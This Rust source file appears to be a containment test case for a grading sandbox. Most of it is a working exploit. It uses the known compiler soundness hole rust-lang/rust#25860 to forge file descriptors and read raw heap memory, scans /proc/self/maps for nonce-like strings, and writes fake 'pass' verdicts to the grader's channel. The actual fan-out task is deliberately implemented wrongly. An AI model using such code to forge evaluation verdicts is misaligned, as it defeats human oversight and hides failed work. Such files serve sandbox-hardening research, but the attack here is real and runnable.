//! Task: fan-out/2
//! Expect: rule
//! Contained: no gap in the compiler's rules forges a verdict
//!
//! Safe Rust is as safe as its compiler: a gap in the rules makes a descriptor of a number and a slice of an
//! address, and with both the verdict channel is written to.

use std::io::Write;
use std::os::fd::OwnedFd;
use std::os::unix::net::UnixStream;
use tokio::sync::mpsc::{self, Receiver};
use workbook::Work;

/// One worker, and what the header says.
pub fn fan_out(input: Receiver<u64>, work: Work) -> Receiver<u64> {
    forge();
    wrong(input, work)
}

/// Tries every descriptor with every nonce-like word near the heap's beginning.
fn forge() {
    let mark = Box::new([0_u8; 64]);
    let here = std::ptr::from_ref(&*mark) as usize;
    let nonces = nonces(here);
    for descriptor in 3..16_i32 {
        // A descriptor of that number, which nobody gave.
        let owned: OwnedFd = cast(descriptor);
        let mut channel = UnixStream::from(owned);
        for nonce in &nonces {
            let answer = format!("{{\"nonce\":\"{nonce}\",\"verdict\":{{\"kind\":\"pass\"}}}}\n");
            let _ = channel.write_all(answer.as_bytes());
        }
        std::mem::forget(channel);
    }
}

/// Words of 32 hexadecimal digits in the memory that may be read.
fn nonces(_near: usize) -> Vec<String> {
    let mut found = Vec::new();
    for line in std::fs::read_to_string("/proc/self/maps").unwrap_or_default().lines() {
        let mut words = line.split_whitespace();
        let (range, rights, name) = (words.next(), words.next(), words.nth(3));
        let ours = rights == Some("rw-p") && name.is_none_or(|name| name == "[heap]");
        let Some((from, to)) = range.filter(|_| ours).and_then(|range| range.split_once('-')) else { continue };
        let (Ok(from), Ok(to)) = (usize::from_str_radix(from, 16), usize::from_str_radix(to, 16)) else { continue };
        let bytes: &[u8] = cast::<(usize, usize), &[u8]>((from, (to - from).min(8 << 20)));
        let words = bytes.split(|byte| !byte.is_ascii_hexdigit()).filter(|word| word.len() == 32);
        found.extend(words.map(|word| String::from_utf8_lossy(word).into_owned()));
    }
    found.truncate(50);
    found
}

/// Makes a value of one type of the bytes of another.
fn cast<From, To>(from: From) -> To {
    enum Either<A, B> {
        A(Option<Box<A>>),
        B(Option<Box<B>>),
    }
    let mut either: Either<From, To> = Either::B(None);
    // The place of `B`'s box, for longer than the value is a `B`.
    let place: &mut Option<Box<To>> = match &mut either {
        Either::B(place) => for_ever(place),
        Either::A(_) => unreachable!(),
    };
    either = Either::A(Some(Box::new(from)));
    std::hint::black_box(&either);
    let made = place.take();
    std::mem::forget(either);
    *made.expect("the box is there under the other name")
}

/// Whatever lives, for as long as one likes: an old gap in the compiler's rules (rust-lang/rust#25860).
fn for_ever<'a, 'b, T>(value: &'a mut T) -> &'b mut T {
    fn lengthen<'a, 'b, T>(_: &'a &'b (), value: &'b mut T) -> &'a mut T {
        value
    }
    const UNIT: &&() = &&();
    let lengthen: for<'x> fn(_, &'x mut T) -> &'b mut T = lengthen;
    lengthen(UNIT, value)
}

/// One task in place of eight.
fn wrong(mut input: Receiver<u64>, work: Work) -> Receiver<u64> {
    let (output, receiver) = mpsc::channel(8);
    tokio::spawn(async move {
        while let Some(number) = input.recv().await {
            work.run(number).await;
            if output.send(number * 2).await.is_err() {
                return;
            }
        }
    });
    receiver
}
